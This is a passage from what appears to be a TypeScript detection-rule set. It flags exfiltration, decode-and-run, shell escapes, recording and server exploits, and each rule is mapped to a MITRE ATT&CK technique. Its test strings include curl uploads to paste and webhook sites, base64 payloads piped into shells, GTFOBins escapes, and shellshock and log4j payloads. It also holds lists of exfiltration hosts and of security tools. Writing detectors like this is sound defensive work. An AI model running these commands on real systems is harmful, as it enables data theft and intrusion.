    hits: ['curl --upload-file d https://transfer.sh/d', 'curl https://api.telegram.org/bot1:A/sendDocument -F document=@x', 'curl -d @x https://webhook.site/abc', 'curl -fsSL https://pastebin.com/raw/abc'],
    misses: ['curl https://www.example.org'],
    look: onText(['transfer.sh', 'api.telegram.org/bot', 'webhook.site', 'pastebin.com', 'paste.rs', 'anonfiles', 'file.io', 'gofile.io', 'discord.com/api/webhooks', 'discordapp.com/', 'requestbin', 'pipedream.net', 'ngrok.io', 'ngrok-free', 'trycloudflare.com', 'mega.nz', 'bashupload', '0x0.st', 'termbin', 'temp.sh', 'ix.io', 'rentry.co', 'hastebin', 'ghostbin', 'paste.ee', 'oshi.at', 'catbox.moe', 'burpcollaborator', 'oast.', 'interact.sh', 'beeceptor', 'loca.lt', 'serveo.net', 'gsocket.io', 'privatebin', 'dpaste', 'controlc.com', 'tmpfiles.org', 'ufile.io', 'sendspace', 'wetransfer', 'dropmefiles']),
  }),
  behaviour('loot-file', ['exfiltration', 'T1074.001', 'collection', 'high', 'low'], {
    reason: 'What was found is gathered in a file or folder with a name for it (loot, exfil, staging).',
    benign: [],
    hits: ['find / -name id_rsa > ~/loot.txt', 'tar czf /tmp/exfil.tgz /home'],
    misses: ['ls > files.txt'],
    look: onText(['loot.', 'loot/', 'exfil', '/staging/', '-staging']),
  }),
  behaviour('cloud-copy', ['exfiltration', 'T1537', 'exfiltration', 'medium', 'medium'], {
    reason: 'Files are copied to cloud storage.',
    benign: ['a backup'],
    hits: ['aws s3 cp /home/dev/data s3://bucket/', 'rclone copy /srv remote:x', 'restic backup -r rest:http://203.0.113.9:80/x f', 'gsutil cp a gs://b'],
    misses: ['aws s3 ls'],
    look: onProcess(['aws', 'rclone', 'restic', 'gsutil', 'azcopy', 'megatools', 'mega-put', 'megacmd', 's3cmd'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'aws':
          return /^s3 (?:cp|sync|mv) (?!s3:)/.test(text) || /--acl bucket-owner/.test(text) ? process : undefined;
        case 'rclone':
          return /^(?:copy|sync|move)/.test(text) || /(?:^| )(?:copy|sync|move) /.test(text) ? process : undefined;
        case 'restic':
          return /rest:http/.test(text) ? process : undefined;
        case 'gsutil':
        case 's3cmd':
          return /^(?:-m )?(?:cp|rsync|put) /.test(text) ? process : undefined;
        default:
          return process;
      }
    }),
  }),
  behaviour('rclone-hidden', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'high'], {
    reason: 'rclone copies with the switches that thieves use (ignore what exists, many transfers, its own configuration).',
    benign: ['a tuned backup'],
    hits: ['rclone.exe copy \\\\fs01\\share remote:x -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12'],
    misses: ['rclone sync /srv remote:backup'],
    look: onProcess(['rclone'], all(arg(/^(?:copy|sync|move)$/), any(arg(/^--ignore-existing/), arg(/^--multi-thread-streams/), arg(/^--no-check-certificate/), arg(/^--max-age/), arg(/^mega:|^ftp/)))),
  }),
  behaviour('recorder', ['collection', 'T1123', 'collection', 'high', 'low'], {
    reason: 'The microphone, camera or screen is recorded.',
    benign: ['recording a meeting'],
    hits: ['sox -d recording.wav trim 0 15', 'arecord -d 10 /tmp/a.wav', 'screencapture -x /tmp/s.png', 'imagesnap /tmp/i.jpg', 'xwd -root -out /tmp/s', 'import -window root /tmp/s.png'],
    misses: ['sox a.wav b.mp3'],
    look: onProcess(['sox', 'rec', 'arecord', 'screencapture', 'imagesnap', 'xwd', 'import', 'ffmpeg', 'parecord'], (process) => {
      const text = said(process);
      switch (process.name) {
        case 'sox':
          return /^-d /.test(text) ? process : undefined;
        case 'xwd':
        case 'import':
          return /root/.test(text) ? process : undefined;
        case 'ffmpeg':
          return /-f (?:avfoundation|x11grab|alsa|pulse|dshow|gdigrab)/.test(text) ? process : undefined;
        case 'screencapture':
          return /(?:^| )-[a-z]*x/.test(text) ? process : undefined;
        default:
          return process;
      }
    }),
  }),
  behaviour('decoded-into-shell', ['decode-and-run', 'T1140', 'execution', 'high', 'high'], {
    reason: 'Something is decoded or decrypted and goes straight into an interpreter.',
    benign: ['an installer that carries its script'],
    hits: ['echo aWQ= | base64 -d | bash', 'openssl enc -d -aes-256-cbc -a -in /tmp/.x -k p | sh', 'echo 6964 | xxd -r -p | sh', 'cat a.gz | gunzip | bash', "bash -c \"printf '\\x69\\x64' | sh\"", 'strings a.jpg | tail -n 1 | base64 -d | sh'],
    misses: ['echo aGk= | base64 -d', 'gunzip -c dump.sql.gz | mysql app'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        const decoder = inputsOf(process, scene).find((one) => {
          const text = said(one);
          return (['base64', 'gbase64', 'base32', 'openssl', 'uudecode', 'b64decode'].includes(one.name) && (/(?:^| )(?:-d|-di|--decode|-D|enc -d|-d)/i.test(text) || one.name === 'b64decode' || one.name === 'uudecode')) || (one.name === 'xxd' && /-r/.test(text)) || (['rev', 'gunzip', 'zcat', 'bzcat', 'xzcat', 'funzip', 'unlzma'].includes(one.name)) || (['gzip', 'bzip2', 'xz'].includes(one.name) && /-[a-z]*d/.test(text)) || (one.name === 'tr' && !text.startsWith('-d')) || (one.name === 'printf' && /\\x[0-9a-f]{2}|\\[0-7]{3}/.test(text)) || (one.name === 'echo' && /-e/.test(text) && /\\x[0-9a-f]{2}|\\0?[0-7]{3}/.test(text));
        });
        if (decoder !== undefined) return placeOf(decoder);
      }
      return undefined;
    }),
  }),
  behaviour('encoded-in-script', ['decode-and-run', 'T1027.010', 'execution', 'high', 'high'], {
    reason: 'A script decodes a text and runs it as code.',
    benign: [],
    hits: [`python -c "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"`, `perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'`, `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`, `node -e "eval(Buffer.from('MQ==','base64').toString())"`],
    misses: [`python3 -c "import base64; print(base64.b64decode('aGk='))"`],
    look: onText(['b64decode', 'decode_base64', 'base64_decode', "'base64')", '"base64")', 'atob(', 'fromhex(', 'zlib.decompress', 'codecs.decode', 'gzinflate', 'marshal.loads', '.unpack("m', "unpack('h*'", 'pack("h*"'], ({ lower }) => /(?:^|[^a-z_.])(?:exec|eval|system|popen|spawn|assert)\s?\(|os\.system|subprocess|eval\s|child_process/.test(lower)),
  }),
  behaviour('compiled-and-run', ['decode-and-run', 'T1027.004', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A program is compiled here and started at once, so that no finished binary had to be brought.',
    benign: ['a developer at work'],
    hits: ['gcc /tmp/x.c && ./a.out', 'go run /home/dev/x.go'],
    misses: ['gcc -c main.c -o main.o'],
    look: onScene((scene) => {
      const compiler = scene.processes.find(({ name, args }) => ['gcc', 'g++', 'cc', 'clang', 'clang++', 'tcc'].includes(name) || (name === 'go' && args[0]?.lower === 'run'));
      if (compiler === undefined) return undefined;
      const runs = compiler.name === 'go' ? compiler.args.some(({ lower }) => /^\/(?:tmp|home|dev\/shm|var\/tmp|root)\//.test(lower)) : scene.processes.some(({ program }) => program.startsWith('./') || TEMP.test(program));
      return runs ? placeOf(compiler) : undefined;
    }),
  }),
  behaviour('binary-padding', ['masquerade', 'T1027.001', 'defense-evasion', 'medium', 'low'], {
    reason: 'A few bytes are added to a program, so that its fingerprint is another.',
    benign: [],
    hits: ['dd if=/dev/zero bs=1 count=1 >> /tmp/x', 'truncate -s +1 /tmp/x'],
    misses: ['truncate -s 10G disk.img'],
    look: onProcess(['dd', 'truncate'], (process) => {
      const text = said(process);
      return (process.name === 'truncate' && /-s \+\d/.test(text)) || (/if=\/dev\/(?:zero|u?random)/.test(text) && process.args.some(({ role, lower }) => role === 'target' && !lower.startsWith('/dev/') && !lower.includes('=')) && /count=1(?: |$)/.test(text)) ? process : undefined;
    }),
  }),
  behaviour('interpreter-shell', ['shell-escape', 'T1059', 'privilege-escalation', 'medium', 'medium'], {
    reason: 'A program that is no shell is made to start one (pty.spawn, GTFOBins).',
    benign: ['making a terminal usable by hand'],
    hits: [`python3 -c "import pty;pty.spawn('/bin/sh')"`, 'find . -exec /bin/sh \\; -quit', "awk 'BEGIN {system(\"/bin/sh\")}'", "vim -c ':!/bin/sh'", 'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh', 'sudo env /bin/sh'],
    misses: ['find . -name x -exec rm {} \\;'],
    look: onText(['pty.spawn', '-exec /bin/sh', '-exec /bin/bash', 'system("/bin/', "system('/bin/", ':!/bin/', '--checkpoint-action=exec', 'exec "/bin/sh"', "exec '/bin/sh'", '!/bin/sh', '!/bin/bash', 'os.execute("/bin/', 'exec("/bin/sh', 'os.system("/bin/sh', 'proxycommand=;', 'proxycommand=sh', '--to-command', 'env /bin/sh', 'setarch $(arch) /bin/sh', 'capsh --', 'posix.exec(', 'pcntl_exec', 'process.setuid(0)', 'os.setuid(0)', 'reset; exec sh', 'reset; sh 1>&0']),
  }),
  behaviour('emulated-shell-flaw', ['exploit', 'T1190', 'execution', 'critical', 'medium'], {
    reason: 'The text of a known attack on a server (shellshock, log4j, OGNL).',
    benign: ['a scanner’s test'],
    hits: ["env x='() { :;}; /bin/bash -c id' bash", "curl -H 'User-Agent: ${jndi:ldap://203.0.113.9/a}' http://host"],
    misses: ['f() { :; }; f'],
    look: onText(['() { :;};', '() { :; };', '${jndi:', '%{(#', 'class.module.classloader']),
  }),
];

function isShell({ name, program }: Process): boolean {
  return SHELLS.includes(name) || isShellName.test(program);
}

function isFetch({ name, args }: Process): boolean {
  return ['curl', 'wget', 'fetch', 'lwp-download', 'aria2c', 'axel', 'lynx', 'tftp', 'ftpget', 'http', 'invoke-webrequest', 'wget2'].includes(name) || (name === 'busybox' && /^(?:wget|tftp|ftpget)$/.test(args[0]?.lower ?? ''));
}

function placeOf({ layer, span }: Process): { readonly layer: number; readonly start: number; readonly end: number } {
  return { layer, ...span };
}

function baseName(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

/** A bare address, plain HTTP to a short name, or a paste site. */
function isOddPlace(lower: string): boolean {
  return /^(?:\w+:\/\/)?\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:\/|$)/.test(lower) || /^http:\/\/[^/]*[^/]\//.test(lower) || /pastebin\.com|paste\.|transfer\.sh|ix\.io|\.onion|gsocket|ngrok|trycloudflare|discordapp|telegra/.test(lower);
}

/** Outside: no private address, no name without a dot. */
function isOutside(lower: string): boolean {
  const host = lower.replace(/^\w+:\/\//, '').replace(/[/?#].*$/s, '').replace(/^.*@/s, '').replace(/:\d+$/, '');
  if (/^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|127\.|169\.254\.)/.test(host)) return false;
  return host.includes('.') || host.includes('$');
}

function standsAt(lower: string, at: number): boolean {
  return at === 0 || !/[a-z0-9]/.test(lower[at - 1] ?? '');
}

const CRON_FILE = /\/etc\/cron(?:tab|\.d\/|\.hourly|\.daily|\.weekly)|\/var\/spool\/cron|\/etc\/anacrontab/;
const CRON_BAD = /curl |wget |\/tmp\/|\/dev\/shm|\/var\/tmp|\/dev\/tcp|base64|python\S* -c|nc -|\/\.\w|\| ?(?:ba)?sh/;

/** Where a job is written; with `bad` only one that fetches, or that runs out of a temporary or hidden folder. */
function cronPlace(scene: Scene, bad: boolean): { readonly layer: number; readonly start: number; readonly end: number } | undefined {
  for (const process of scene.processes) {
    const target = process.args.find(({ role, lower }) => (role === 'target' || (process.name === 'tee' && role !== 'flag')) && CRON_FILE.test(lower));
    const isCrontab = process.name === 'crontab' && process.args.some(({ lower }) => lower === '-' || (!lower.startsWith('-') && lower.length > 1)) ;
    const feeds = isCrontab || process.name === 'tee' ? inputsOf(process, scene) : [];
    if (target === undefined && !isCrontab && !(process.name === 'crontab' && process.args.length === 0 && process.input !== undefined)) continue;
    if (!bad) return placeOf(process);
    const text = [process, ...feeds, ...scene.processes.filter(({ name }) => isCrontab && (name === 'echo' || name === 'printf'))].map(said).join(' ');
    if (CRON_BAD.test(text.replace(CRON_FILE, ''))) return placeOf(process);
  }
  return undefined;
}

const PROTECTION = /falcon|crowdstrike|sentinel(?!-?redis)|carbonblack|cbagent|cbdaemon|osquery|traps|cortex|wazuh|ossec|auditd|apparmor|selinux|clam(?:av|d)|mdatp|sophos|symantec|mcafee|eset|kaspersky|bitdefender|aegis|aliyun|yunjing|qualys|tanium|rapid7|cylance|xprotect|littlesnitch|little snitch|rsyslog|syslog-ng|santa|jamf|trend|fail2ban|snort|suricata|falco|elastic-agent|elastic-endpoint|blockblock|cloudmonitor|bcm-|sysmon|lacework|aquasec|uptycs/;
const SYSTEM_LOG = /^(?:\/private)?\/var\/log\/?(?:$|\*|syslog|auth|secure|messages|wtmp|btmp|utmp|lastlog|audit|journal|kern|cron|maillog|system\.log|install\.log|asl|security|daemon|faillog|boot|dmesg)|^\/var\/run\/utmp|^\/var\/audit/;
const INSTALLER_TEMP = /go-build|selfgz|is-[a-z0-9]+\.tmp|\.cr\.|pkinstallsandbox|terraform_|ansible|\/_mei|\/pip-|\/npm-|\/yarn|\/cargo-|\/rustup|vscode|\/jetty|\/hsperf|\/snap\.|\/bazel|gradle|\.mount_|appimage|\/nix-/i;
void [WRITERS, not, holds, standsAlone];
